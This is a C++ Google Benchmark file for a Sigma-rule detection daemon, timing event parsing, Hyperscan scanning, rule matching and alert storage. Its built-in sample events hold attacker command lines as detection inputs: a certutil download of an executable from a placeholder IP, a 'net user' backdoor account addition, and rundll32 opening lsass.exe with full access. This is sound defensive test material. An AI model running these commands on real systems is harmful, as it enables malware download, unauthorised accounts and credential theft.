// Micro-benchmarks of the hot pieces of the pipeline (Google Benchmark; see bench/README.md):
//   BM_ParseJsonIntoEvent   field extraction: one JSON line parsed into an Event laid out for the rule set
//   BM_HyperscanBatchScan   one hs_scan over a whole batch of lines (the literals of the rules, one database)
//   BM_MatcherMatch         Matcher::match on events parsed beforehand (prefilter scan + condition evaluation)
//   BM_MatcherPrefilter     the same calls, timed up to the end of socd's own prefilter (its per-field Hyperscan
//                           databases marking the candidate rules): Matcher::match_split's moment
//   BM_MatcherEvaluate      the same calls, timed from there: condition evaluation of the candidates alone
//   BM_StoreBatchWrite      one AlertStore write of a batch of N alerts (RocksDB, not fsynced)
// Input: the first 4,096 lines of $SOCD_BENCH_EVENTS (a JSON-lines file, e.g. the unzipped Mordor file) or,
// without it, a few built-in Windows process-creation events repeated; rules: $SOCD_BENCH_RULES (default: the
// repository's rules/windows).
#include <benchmark/benchmark.h>
#include <hs/hs.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <string>
#include <vector>

#include "cli.h"
#include "bench_reference.h"
#include "socd/alert_store.h"
#include "socd/event_parser.h"
#include "socd/line_reader.h"
#include "socd/rule_loader.h"

namespace {

const char* kBuiltInEvents[] = {
    R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS01","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\bob","ProcessId":4242,"UtcTime":"2024-05-01 10:20:30.123"})",
    R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS02","Image":"C:\\Windows\\System32\\notepad.exe","CommandLine":"notepad.exe C:\\Users\\alice\\notes.txt","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\alice","ProcessId":1111,"UtcTime":"2024-05-01 10:20:31.000"})",
    R"({"EventID":4688,"Channel":"Security","Hostname":"DC01","NewProcessName":"C:\\Windows\\System32\\net.exe","CommandLine":"net user mallory P@ss /add","SubjectUserName":"admin","UtcTime":"2024-05-01 10:20:32.500"})",
    R"({"EventID":10,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS01","SourceImage":"C:\\Windows\\System32\\rundll32.exe","TargetImage":"C:\\Windows\\System32\\lsass.exe","GrantedAccess":"0x1fffff","UtcTime":"2024-05-01 10:20:33.000"})",
};

struct Fixture {
  std::vector<std::string> lines;
  socd::LineBatch batch;  // the same lines, as a source frames them
  std::shared_ptr<const socd::RuleSet> rules;
  std::string error;

  Fixture() {
    const char* path = std::getenv("SOCD_BENCH_EVENTS");
    if (path && *path) {
      std::ifstream in(path);
      for (std::string l; lines.size() < 4096 && std::getline(in, l);)
        if (!l.empty()) lines.push_back(l);
    }
    if (lines.empty())
      for (int i = 0; i < 1024; ++i) lines.emplace_back(kBuiltInEvents[i % std::size(kBuiltInEvents)]);
    uint64_t n = 0;
    for (const auto& l : lines) {
      ++n;
      batch.add(l, n, n);
    }
    batch.finish();
    const char* r = std::getenv("SOCD_BENCH_RULES");
    std::string rules_dir = r && *r ? r : std::string(SOCD_SOURCE_DIR) + "/rules/windows";
    auto mapping = socd::cli::load_mapping("");
    if (!mapping) {
      error = mapping.error().message();
      return;
    }
    socd::LoadedRules loaded = socd::load_rules({rules_dir}, *mapping, {});
    if (loaded.loaded == 0) error = "no rule compiled from " + rules_dir;
    rules = loaded.set;
  }
};

Fixture& fixture() {
  static Fixture f;
  return f;
}

void BM_ParseJsonIntoEvent(benchmark::State& state) {
  Fixture& f = fixture();
  if (!f.error.empty()) return state.SkipWithError(f.error.c_str());
  socd::EventParser parser(socd::InputFormat::Json);
  socd::Event ev(&f.rules->paths());
  size_t i = 0, bytes = 0;
  for (auto _ : state) {
    const std::string& l = f.lines[i++ % f.lines.size()];
    benchmark::DoNotOptimize(parser.parse(l, ev));
    bytes += l.size();
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));
  state.SetBytesProcessed(static_cast<int64_t>(bytes));
}
BENCHMARK(BM_ParseJsonIntoEvent);

void BM_HyperscanBatchScan(benchmark::State& state) {
  Fixture& f = fixture();
  const char* r = std::getenv("SOCD_BENCH_RULES");
  std::string rules_dir = r && *r ? r : std::string(SOCD_SOURCE_DIR) + "/rules/windows";
  std::set<std::string> literals = socd::bench::sigma_literals(rules_dir);
  auto compiled = socd::bench::compile_literals(literals);
  if (!compiled) return state.SkipWithError(compiled.error().message().c_str());
  hs_database_t* db = *compiled;
  hs_scratch_t* scratch = nullptr;
  hs_alloc_scratch(db, &scratch);
  uint64_t matches = 0;
  auto on_match = [](unsigned, unsigned long long, unsigned long long, unsigned, void* ctx) -> int {
    ++*static_cast<uint64_t*>(ctx);
    return 0;
  };
  const char* data = f.batch.data.data();
  const size_t size = f.batch.data.size();
  for (auto _ : state) hs_scan(db, data, static_cast<unsigned>(size), 0, scratch, on_match, &matches);
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * f.lines.size()));
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * size));
  state.counters["patterns"] = static_cast<double>(literals.size());
  state.counters["lines_per_batch"] = static_cast<double>(f.lines.size());
  hs_free_scratch(scratch);
  hs_free_database(db);
}
BENCHMARK(BM_HyperscanBatchScan);

// The fixture's lines parsed into events laid out for its rules (those that parse).
std::vector<std::unique_ptr<socd::Event>> parsed_events(const Fixture& f) {
  socd::EventParser parser(socd::InputFormat::Json);
  std::vector<std::unique_ptr<socd::Event>> events;
  for (const auto& l : f.lines) {
    auto ev = std::make_unique<socd::Event>(&f.rules->paths());
    if (parser.parse(l, *ev).ok()) events.push_back(std::move(ev));
  }
  return events;
}

void BM_MatcherMatch(benchmark::State& state) {
  Fixture& f = fixture();
  if (!f.error.empty()) return state.SkipWithError(f.error.c_str());
  std::vector<std::unique_ptr<socd::Event>> events = parsed_events(f);
  if (events.empty()) return state.SkipWithError("no event parsed");
  socd::Matcher matcher(f.rules);
  std::vector<uint32_t> matched;
  size_t i = 0, hits = 0;
  for (auto _ : state) {
    matched.clear();
    matcher.match(*events[i++ % events.size()], matched);
    hits += matched.size();
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));
  state.counters["rules"] = static_cast<double>(f.rules->size());
  state.counters["matches_per_event"] =
      benchmark::Counter(static_cast<double>(hits) / static_cast<double>(state.iterations()));
}
BENCHMARK(BM_MatcherMatch);

// Matcher::match_split on the events of BM_MatcherMatch, each call's time cut where the prefilter ended: the
// prefilter's part (kEvaluate false) or the evaluation's (true). Manual time: only that part is counted.
template <bool kEvaluate>
void matcher_part(benchmark::State& state) {
  Fixture& f = fixture();
  if (!f.error.empty()) return state.SkipWithError(f.error.c_str());
  std::vector<std::unique_ptr<socd::Event>> events = parsed_events(f);
  if (events.empty()) return state.SkipWithError("no event parsed");
  socd::Matcher matcher(f.rules);
  std::vector<uint32_t> matched;
  size_t i = 0;
  using Clock = std::chrono::steady_clock;
  for (auto _ : state) {
    matched.clear();
    Clock::time_point prefiltered;
    const Clock::time_point start = Clock::now();
    matcher.match_split(*events[i++ % events.size()], matched, prefiltered);
    const Clock::time_point end = Clock::now();
    state.SetIterationTime(std::chrono::duration<double>(kEvaluate ? end - prefiltered : prefiltered - start).count());
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));
  state.counters["rules"] = static_cast<double>(f.rules->size());
}
void BM_MatcherPrefilter(benchmark::State& state) { matcher_part<false>(state); }
void BM_MatcherEvaluate(benchmark::State& state) { matcher_part<true>(state); }
BENCHMARK(BM_MatcherPrefilter)->UseManualTime();
BENCHMARK(BM_MatcherEvaluate)->UseManualTime();

void BM_StoreBatchWrite(benchmark::State& state) {
  const char* tmp = std::getenv("TMPDIR");
  std::string dir = std::string(tmp && *tmp ? tmp : "/tmp") + "/socd-bench-store-XXXXXX";
  if (!::mkdtemp(dir.data())) return state.SkipWithError("cannot create a temporary directory");
  {
    auto store = socd::AlertStore::open(dir);
    if (!store) return state.SkipWithError(store.error().message().c_str());
    const size_t n = static_cast<size_t>(state.range(0));
    std::vector<socd::StoredAlert> alerts(n);
    uint64_t serial = 0;
    std::vector<std::pair<std::string, std::string>> checkpoints = {{"bench", "0"}}, no_state;
    for (auto _ : state) {
      socd::bench::fill_bench_alerts(alerts, serial);  // as socd bench writes them
      checkpoints[0].second = std::to_string(serial);
      size_t stored = 0;
      socd::Status st = (*store)->commit_with_state(alerts, checkpoints, no_state, &stored);
      if (!st.ok()) return state.SkipWithError(st.message().c_str());
    }
    state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * n));  // alerts written
  }
  std::error_code ignored;
  std::filesystem::remove_all(dir, ignored);
}
BENCHMARK(BM_StoreBatchWrite)->Arg(1)->Arg(100)->Arg(1000);

}  // namespace

BENCHMARK_MAIN();
